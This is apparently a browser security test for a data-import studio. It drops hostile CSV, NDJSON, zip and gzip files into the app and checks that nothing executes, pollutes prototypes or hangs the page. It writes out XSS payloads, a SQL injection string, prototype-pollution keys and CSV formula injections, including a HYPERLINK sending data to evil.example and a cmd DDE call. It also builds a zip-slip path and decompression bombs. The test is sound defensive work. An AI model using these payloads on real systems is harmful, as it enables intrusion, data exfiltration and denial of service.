/** Files made to be run, to reach what is not theirs, or to fill the device: through the drop, on every view of their cards. */
import { gzipSync } from 'fflate';
import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { zipOf } from '../unit/ingest/zips';
import type { FileText } from '../browser/harness/studio-page';
import { sampleFolder } from '../browser/harness/truth';
import { visit } from '../browser/harness/visit';

const report = readFileSync(join(sampleFolder, 'Campaign report.csv'), 'utf8').split('\n');
const [TITLE, RANGE, NAMES] = report;
const ROWS = report.slice(3, 9);
const csv = (...lines: readonly string[]): string => `${lines.join('\n')}\n`;
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const named = (row: string, campaign: string): string =>
  row.replace(/^([^,]*,[^,]*,)("[^"]*"|[^,]*)/, (_, before: string) => before + quoted(campaign));

const RUN = (mark: number): string =>
  `<img src=x onerror=window.__pwned=${mark}><script>window.__pwned=${mark}</script>`;
const HEADERS = [
  RUN(1),
  '__proto__',
  'constructor',
  '"; drop table delivery; --',
  'javascript:window.__pwned=2',
  '\u202egpj',
];
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+1)', "+1+cmd|' /C calc'!A0", '-2+3+cmd|x', '＝1+1'];
const CELL_LETTERS = 10_000_000;
const COLUMNS = 20_000;

const event = (more: string): string => `{"timestamp":"2031-03-04T10:00:00Z","user_id":"u1","event":${more}}`;
const nested = (levels: number): string => `"Deep","a":${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;

/** Each with a sentence of its card. */
const FILES: readonly (FileText & { readonly says: string; readonly part?: string })[] = [
  {
    name: 'headers.csv',
    text: csv(
      TITLE,
      RANGE,
      [NAMES, ...HEADERS.map(quoted)].join(),
      ...ROWS.slice(0, 2).map((row) => [named(row, RUN(3)), ...HEADERS.map((_, at) => quoted(RUN(10 + at)))].join()),
    ),
    says: '2 rows',
  },
  {
    name: 'formulas.csv',
    text: csv(TITLE, RANGE, NAMES, ...FORMULAS.map((cell, at) => named(ROWS[at], cell))),
    says: '5 rows',
  },
  {
    name: 'keys.ndjson',
    text: csv(
      event(`${JSON.stringify(RUN(4))},"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":2}}`),
      event('"Open","__proto__.polluted":3,"toString":4'),
      event(nested(100)),
    ),
    says: '1 reject',
  },
  {
    name: 'slip.zip',
    text: zipOf({ '..\\..\\startup\\evil.csv': csv(TITLE, RANGE, NAMES, ROWS[5]) }),
    part: 'evil.csv',
    says: '1 row',
  },
  {
    name: 'bomb.zip',
    text: zipOf({ 'bomb.csv': new Uint8Array(16 << 20).fill(0x2c) }),
    part: 'bomb.csv',
    says: 'unpacks to more than 200 times its size',
  },
  {
    name: 'bomb.csv.gz',
    text: gzipSync(new Uint8Array(16 << 20).fill(0x2c), { level: 9 }),
    says: 'unpacks to more than 200 times its size',
  },
  { name: 'twice.csv.gz', text: gzipSync(gzipSync(Buffer.from('a,b\n1,2\n'))), says: 'map its columns' },
  {
    name: 'wide.csv',
    text: csv(
      ...[NAMES, ROWS[3], ROWS[4]].map((line, row) =>
        [line, ...Array.from({ length: COLUMNS }, (_, at) => (row === 0 ? `extra ${at}` : `${at * row}`))].join(),
      ),
    ),
    says: '2 rows',
  },
  {
    name: 'cell.csv',
    text: csv(
      TITLE,
      RANGE,
      [NAMES, 'Notes'].join(),
      [ROWS[0].replace('2026', '2027'), quoted(RUN(5) + 'long text '.repeat(CELL_LETTERS / 10))].join(),
      [ROWS[1].replace('2026', '2027'), ''].join(),
    ),
    says: '2 rows',
  },
];

test('nothing of a hostile file is run, reaches another or stops the page', { timeout: 600_000 }, async () => {
  const { open } = await visit();
  const studio = await open();
  await studio.drop(FILES);
  await studio.settled(FILES.length);
  for (const { name, part = name, says } of FILES) {
    const card = studio.card(part).first();
    expect([name, await card.innerText()]).toEqual([name, expect.stringContaining(says)]);
    await card.locator('.choose').click();
    const tabs = studio.page.getByRole('tab');
    for (const tab of ['Mapping', 'Problems', 'Checks', 'Preview'])
      if ((await tabs.count()) > 0) await studio.page.getByRole('tab', { name: tab }).click();
  }
  const text = async (statement: string): Promise<string> => (await studio.sql(statement)).flat().join('\n');
  // Everything came in as what it is: text, under its own name.
  expect(await text(`SELECT campaign FROM delivery WHERE campaign = '${RUN(3)}' LIMIT 1`)).toBe(RUN(3));
  const kept = await text("SELECT props FROM delivery WHERE props LIKE '%drop table delivery%' LIMIT 1");
  // The screen draws no marks that turn the direction of what follows.
  for (const name of HEADERS) expect(kept).toContain(JSON.stringify(name.replace('\u202e', '')).slice(1, -1));
  expect(await text("SELECT string_agg(props, '') FROM events WHERE user_id = 'u1'")).toMatch(
    /"__proto__\.polluted":[\s\S]*"constructor\.prototype\.polluted":2/,
  );
  const notes = 'SELECT max(length(props)) > 10000000 FROM delivery WHERE contains(props, \'"Notes":\')';
  expect(await text(notes)).toBe('true');
  // A table so wide is no report that is known: what it is taken for is asked about.
  const last = "SELECT props LIKE '%extra 19999%' FROM events WHERE contains(props, 'extra 0') LIMIT 1";
  expect(await text(last)).toBe('true');

  const exported = await readFile(await studio.export('delivery'), 'utf8');
  for (const formula of FORMULAS) expect(exported).toContain(`'${formula.replaceAll('"', '""')}`);
  expect(exported).not.toMatch(/(?:^|,)"?[=@＝]/m);

  await studio.reload();
  await studio.go('data');
  await studio.settled(FILES.filter(({ says }) => /row|reject|map its/.test(says)).length);
  const isPolluted = (): boolean => (({}) as Record<string, unknown>)['polluted'] !== undefined;
  expect(await studio.page.evaluate(isPolluted)).toBe(false);
  for (const worker of studio.page.workers()) expect(await worker.evaluate(isPolluted)).toBe(false);
  expect(await studio.page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(await studio.page.locator('main script, main img, iframe').count()).toBe(0);
});
